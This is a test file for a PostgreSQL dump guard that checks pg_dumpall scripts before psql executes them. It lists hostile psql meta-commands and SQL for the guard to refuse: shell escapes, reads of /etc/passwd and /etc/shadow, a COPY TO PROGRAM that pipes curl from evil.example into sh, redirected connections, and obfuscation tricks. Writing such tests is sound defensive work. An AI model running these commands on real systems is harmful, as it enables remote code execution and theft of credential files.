import path from 'node:path';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { execa } from 'execa';
import { DUMP_ENTRY } from '../../src/archive/format.js';
import { DumpGuard, DumpGuardScanner, DumpRefusedError } from '../../src/pg/dump/guard/stream.js';
import { createSandboxServer, type SandboxServer } from '../../src/sandbox/sandbox-server.js';
import { expect } from '../support/expect.js';

const HEAD = "--\n-- PostgreSQL database cluster dump\n--\n\nSET client_encoding = 'UTF8';\nSET standard_conforming_strings = on;\n";
const TAIL = '\n--\n-- PostgreSQL database cluster dump complete\n--\n\n';

/** Runs a script through the guard in chunks of `chunk` bytes; returns what it passed on. */
function guard(script: string | Buffer, chunk = 7): Buffer {
  const bytes = typeof script === 'string' ? Buffer.from(script, 'latin1') : script;
  const scanner = new DumpGuardScanner(DUMP_ENTRY);
  const out: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += chunk) out.push(...scanner.feed(bytes.subarray(i, i + chunk)));
  out.push(...scanner.finish());
  return Buffer.concat(out);
}

/** The reason the guard gives for `body` inside an otherwise good dump, or undefined when it passes. */
function refusal(body: string, chunk = 7): string | undefined {
  try {
    guard(HEAD + body + TAIL, chunk);
    return undefined;
  } catch (error) {
    if (error instanceof DumpRefusedError) return error.message;
    throw error;
  }
}

describe('the dump guard: only a pg_dumpall script reaches psql', function () {
  this.timeout(120_000);

  describe('what pg_dumpall writes passes, byte for byte', () => {
    let server: SandboxServer;
    let dump: Buffer;

    before(async () => {
      server = await createSandboxServer({ name: 'cupm-guard', subscribers: 50 });
      // Objects whose dump holds every literal form psql knows, and names that need quoting.
      const q = (sql: string, db = 'cupm') => server.cluster.query(sql, [], db);
      await q(`CREATE TABLE "Odd ""Name"" (x)" (id int, t text DEFAULT E'a\\\\b''c', "col;(" text)`);
      await q(`COMMENT ON TABLE "Odd ""Name"" (x)" IS 'it''s a \\ backslash -- not a comment /* nor this */ \\! nor this'`);
      await q(`CREATE FUNCTION f(a int) RETURNS int LANGUAGE plpgsql AS $body$ BEGIN /* \\! no */ RETURN a; END $body$`);
      await q(`CREATE FUNCTION g() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END`);
      await q(`CREATE VIEW v AS SELECT (ARRAY[1,2,3])[1:2] AS s, 'x'::text AS "T", $$dollar \\ $$ AS d, U&'\\0041' AS u`);
      await q(`INSERT INTO "Odd ""Name"" (x)" VALUES (1, E'\\\\.\\nline\\n\\\\! not a command', '\\.'), (2, NULL, '\\! data')`);
      await q(`CREATE DATABASE "we""ird = db"`, 'postgres');
      await q(`CREATE TABLE t (b bytea); INSERT INTO t SELECT decode(repeat('5c2e0a00', 100), 'hex')`, 'we"ird = db');
      const result = await execa(path.join(server.cluster.binDir, 'pg_dumpall'), ['-w'], {
        env: server.cluster.env(),
        encoding: 'buffer',
        stripFinalNewline: false,
      });
      dump = Buffer.from(result.stdout);
    });
    after(async () => {
      await server?.destroy();
    });

    it('a real pg_dumpall output, in chunks of any size, passes unchanged', () => {
      for (const chunk of [1, 3, 64, 4096, 65536, dump.length]) {
        expect(guard(dump, chunk).equals(dump), `chunks of ${chunk}`).to.equal(true);
      }
      // The dump has what the guard must let through.
      const text = dump.toString('latin1');
      for (const expected of [
        '\\connect cupm',
        '\\restrict ',
        '\\encoding SQL_ASCII',
        '\\connect -reuse-previous=on "dbname=',
        ' FROM stdin;',
        '\\.',
      ]) {
        expect(text, expected).to.include(expected);
      }
    });

    it('the same dump with CRLF line ends and a byte order mark (a copy made on Windows) passes', () => {
      const windows = Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf]),
        Buffer.from(dump.toString('latin1').replace(/\n/g, '\r\n'), 'latin1'),
      ]);
      expect(guard(windows, 1000).equals(windows)).to.equal(true);
    });
  });

  it("pg_dump 8.2's forms pass: \\connect -, WITH OIDS, E'' strings with standard_conforming_strings off", () => {
    expect(
      refusal(
        [
          '\\connect postgres',
          '\\connect -',
          'SET standard_conforming_strings = off;',
          "COMMENT ON TABLE t IS E'C:\\\\CUPM\\\\ and it''s';",
          'COPY phone (id, mac) WITH OIDS FROM stdin;',
          '1\t2\t00:11',
          '\\.',
          "SELECT pg_catalog.setval('phone_id_seq', 3, true);",
        ].join('\n'),
      ),
    ).to.equal(undefined);
  });

  describe('psql meta-commands that run programs, touch files or go elsewhere are refused, each named', () => {
    const cases: Array<[string, RegExp]> = [
      ['\\! touch /tmp/pwned', /"\\!" runs a shell command on this machine/],
      ['\\o /tmp/out.txt', /"\\o" writes query output to a file or a program/],
      ['\\out |mail root', /"\\out" writes query output/],
      ['\\w /tmp/buffer.sql', /"\\w" writes the query buffer/],
      ['SELECT 1 \\g /tmp/result', /"\\g" can send query output to a file or a program/],
      ['SELECT 1 \\g |sh', /"\\g" .*in the middle of a line/],
      ["\\copy phone to '/tmp/phones'", /"\\copy" reads or writes files on this machine, or runs a program/],
      ["\\copy phone from program 'id'", /"\\copy"/],
      ['\\setenv PAGER "sh -c id"', /"\\setenv" changes the environment/],
      ['\\i /etc/passwd', /"\\i" reads and runs another file/],
      ['\\ir other.sql', /"\\ir" reads and runs another file/],
      ['\\include /etc/passwd', /"\\include"/],
      ["SELECT 'DROP TABLE x' \\gexec", /"\\gexec" runs query results as SQL/],
      ['\\lo_import /etc/shadow', /"\\lo_import" reads a file of this machine/],
      ['\\lo_export 1234 /tmp/x', /"\\lo_export" writes a file on this machine/],
      ['\\set ON_ERROR_STOP 0', /"\\set" sets psql variables/],
      ['\\cd /', /"\\cd"/],
      ['\\. ', /"\\." ends COPY data, outside COPY data/],
      ['\\connect "host=evil.example dbname=cupm"', /"\\connect" names a connection string, not a database/],
      ['\\connect postgresql://evil.example/cupm', /"\\connect" names a connection string/],
      ['\\connect cupm postgres evil.example 5432', /"\\connect" has more than one argument/],
      ['\\c -reuse-previous=on "dbname=\'cupm\' host=evil.example"', /"\\connect" names more than a database/],
      ['  \\connect cupm', /"\\connect" connects elsewhere .* \(psql runs it even in the middle of a line\)/],
      ['SELECT 1;\n\\restrict abc \\! id', /"\\restrict" is a psql meta-command/],
    ];
    for (const [line, reason] of cases) {
      it(line.replace(/\n/g, ' / '), () => {
        const why = refusal(`${line}\n`);
        expect(why, line).to.be.a('string');
        expect(why).to.match(/^database\/pg_dumpall\.sql is not a pg_dumpall script psql may run: line \d+: /);
        expect(why).to.match(reason);
      });
    }
  });

  describe('ways to hide a meta-command from a line-by-line look are seen through', () => {
    const cases: Array<[string, string, RegExp]> = [
      ['after a statement on the same line', 'SELECT 1; \\! id\n', /"\\!"/],
      ['after a -- comment ended by a carriage return', '-- harmless\r\\! id\n', /"\\!"/],
      ["after a '...' string that ends on the line before", "SELECT 'a\nb'; \\! id\n", /"\\!"/],
      ['after a dollar-quoted body', 'CREATE FUNCTION x() RETURNS int AS $f$ SELECT 1 $f$ LANGUAGE sql; \\! id\n', /"\\!"/],
      ['after a nested block comment', '/* a /* b */ c */ \\! id\n', /"\\!"/],
      ['after the data of a COPY', 'COPY t (a) FROM stdin;\n1\n\\.\n\\! id\n', /"\\!"/],
      ['on the line of a COPY header', 'COPY t (a) FROM stdin; \\! id\n1\n\\.\n', /text after "COPY \.\.\. FROM stdin;"/],
      [
        'behind a quote psql and we could read differently (standard_conforming_strings)',
        "SELECT 'a\\' \\! id';\n",
        /standard_conforming_strings/,
      ],
      ['behind a NUL byte', 'SELECT 1;\u0000\\! id\n', /NUL byte/],
      ['in a psql variable psql would substitute', "SELECT :'DBNAME';\n", /psql variable :DBNAME/],
    ];
    for (const [what, body, reason] of cases) {
      it(what, () => {
        const why = refusal(body);
        expect(why, body).to.be.a('string');
        expect(why).to.match(reason);
      });
    }
  });

  describe('SQL that reaches beyond the database is refused too (best effort: the dump runs as the admin)', () => {
    const cases: Array<[string, RegExp]> = [
      ["COPY phone TO '/tmp/phones';", /a COPY that is not "COPY <table> FROM stdin"/],
      ["COPY phone TO PROGRAM 'curl evil.example | sh';", /COPY/],
      ["COPY phone FROM PROGRAM 'id';", /COPY/],
      ["COPY phone FROM '/etc/passwd';", /COPY/],
      ['COPY (SELECT 1) TO STDOUT;', /COPY/],
      ["copy phone\n  to '/tmp/x';", /COPY/],
      ["SELECT lo_export(16400, '/tmp/x');", /lo_import\/lo_export/],
      ["SELECT pg_catalog.lo_import('/etc/passwd');", /lo_import\/lo_export/],
      ["ALTER SYSTEM SET archive_command = 'id';", /ALTER SYSTEM/],
    ];
    for (const [sql, reason] of cases) {
      it(sql.replace(/\n/g, ' '), () => {
        expect(refusal(`${sql}\n`)).to.match(reason);
      });
    }
  });

  it('what only looks like a meta-command passes: in strings, comments, dollar quotes, identifiers and COPY data', () => {
    expect(
      refusal(
        [
          "COMMENT ON TABLE t IS 'run \\! id, \\o /tmp/x';",
          "COMMENT ON TABLE t IS E'a \\\\! b \\' still inside';",
          '-- \\! in a comment',
          '/* \\o in a block comment',
          '   spanning lines \\i x */',
          "CREATE FUNCTION f() RETURNS text AS $$ SELECT '\\! x' $$ LANGUAGE sql;",
          'CREATE TABLE "\\!x" (a int);',
          'COPY "\\!x" (a) FROM stdin;',
          '\\! this is data',
          '\\o also data',
          '\\.',
          "SELECT 'it''s', x::text, arr[1:2], $1;",
        ].join('\n'),
      ),
    ).to.equal(undefined);
  });

  it('a script that is not a pg_dumpall script at all is refused', () => {
    expect(() => guard('SELECT 1;\n')).to.throw(DumpRefusedError, /does not start with "-- PostgreSQL database cluster dump"/);
    expect(() => guard('--\n-- PostgreSQL database dump\n--\n\nSELECT 1;\n')).to.throw(DumpRefusedError, /cluster dump/);
  });

  it('in a client encoding whose characters can hold a backslash byte (SJIS), bytes are read as psql reads them', () => {
    // 0x95 0x5c is one SJIS character (its second byte is "\"): psql masks it, so no meta-command.
    const sjis = Buffer.concat([
      Buffer.from(HEAD + "SET client_encoding = 'SJIS';\nCOMMENT ON TABLE t IS ", 'latin1'),
      Buffer.from([0x27, 0x95, 0x5c, 0x27]),
      Buffer.from(';\n' + TAIL, 'latin1'),
    ]);
    expect(guard(sjis).equals(sjis)).to.equal(true);
    const outside = Buffer.concat([
      Buffer.from(HEAD + "SET client_encoding = 'UTF8';\nSELECT 1; ", 'latin1'),
      Buffer.from([0x95, 0x5c]),
      Buffer.from('! id\n' + TAIL, 'latin1'),
    ]);
    expect(() => guard(outside)).to.throw(DumpRefusedError);
  });

  it('as a stream it passes on only lines it has read whole: psql never gets the start of a refused line', async () => {
    const passed: Buffer[] = [];
    const sink = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        passed.push(chunk);
        callback();
      },
    });
    const chunks = [HEAD + 'SELECT 1;\n\\! to', 'uch /tmp/pwned\n'].map((c) => Buffer.from(c));
    await expect(pipeline(Readable.from(chunks), new DumpGuard(DUMP_ENTRY), sink)).to.be.rejectedWith(DumpRefusedError, /"\\!"/);
    expect(Buffer.concat(passed).toString()).to.equal(HEAD + 'SELECT 1;\n');
  });
});
